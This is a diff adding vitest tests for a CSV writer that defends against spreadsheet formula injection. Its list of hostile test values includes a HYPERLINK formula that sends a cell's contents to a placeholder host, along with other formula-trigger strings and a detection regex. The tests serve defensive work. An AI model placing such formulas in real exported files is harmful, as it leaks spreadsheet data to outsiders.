@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { toCsv } from './csv.ts';
+import { csvComment, csvDocument, csvLine, toCsv } from './csv.ts';
 import { protectSeries, protectTable, tabulate, type PublishedTable, type TableInput } from './table.ts';
 
 const options = { secret: 'test release secret, csv output', method: 'rr3' } as const;
@@ -62,5 +62,62 @@ describe('toCsv', () => {
 
   it('refuses an exact table', () => {
     expect(() => toCsv(tabulate(input) as unknown as PublishedTable)).toThrow(/protected table only/);
+  });
+});
+
+/** Cells as a spreadsheet reads one line: split at commas, a cell opening with a quote runs to its closing quote. */
+function spreadsheetCells(line: string): string[] {
+  const cells: string[] = [];
+  let i = 0;
+  for (;;) {
+    let cell = '';
+    if (line[i] === '"') {
+      for (i++; i < line.length; i++) {
+        if (line[i] === '"' && line[i + 1] === '"') cell += line.charAt(++i);
+        else if (line[i] === '"') break;
+        else cell += line.charAt(i);
+      }
+      i++;
+    }
+    while (i < line.length && line[i] !== ',') cell += line.charAt(i++);
+    cells.push(cell);
+    if (i >= line.length) return cells;
+    i++;
+  }
+}
+
+const RUNS_AS_FORMULA = /^\s*[=+\-@]|^[\t\r]/;
+const HOSTILE = [
+  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+  '+1',
+  '-1+1',
+  '@SUM(A1:A9)',
+  ' =1+1',
+  '\t=1',
+];
+
+describe('the guarded CSV writer', () => {
+  it('writes cells a spreadsheet shows as text, never runs', () => {
+    for (const value of HOSTILE) {
+      const cells = spreadsheetCells(csvLine(['Auckland', value, '3']));
+      expect(cells).toHaveLength(3);
+      expect(cells[1]).toBe(`'${value}`);
+      expect(cells.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
+    }
+    expect(csvLine(['plain', 'with, comma', 'a "quote"'])).toBe('plain,"with, comma","a ""quote"""');
+  });
+
+  it('keeps a comment line on one line, starting with "#", with every piece inert', () => {
+    for (const value of HOSTILE) {
+      const line = csvComment(`Purpose: counting, ${value}, "${value}",${value}\nsecond line`);
+      expect(line.startsWith('# Purpose: counting,')).toBe(true);
+      expect(line).not.toMatch(/[\r\n]/);
+      expect(spreadsheetCells(line).filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
+    }
+    expect(csvComment('Rows: 12 of 30 children')).toBe('# Rows: 12 of 30 children');
+  });
+
+  it('ends every line with CRLF', () => {
+    expect(csvDocument([csvComment('note'), csvLine(['a', 'b']), ''])).toBe('# note\r\na,b\r\n\r\n');
   });
 });
